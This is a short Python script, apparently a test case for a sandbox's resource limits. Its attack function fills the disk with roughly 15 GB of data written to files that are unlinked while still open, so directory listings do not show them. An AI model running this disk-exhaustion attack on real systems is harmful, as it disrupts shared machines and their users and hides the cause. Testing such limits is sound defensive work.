# outcome: limit files
"""Fills the disk with files that have no name any more."""

import os


def attack(target):
    kept = []
    for number in range(1000):
        kept.append(open(f"file{number}", "wb"))
        os.unlink(f"file{number}")
        for _ in range(15):
            kept[-1].write(b"x" * (1 << 20))
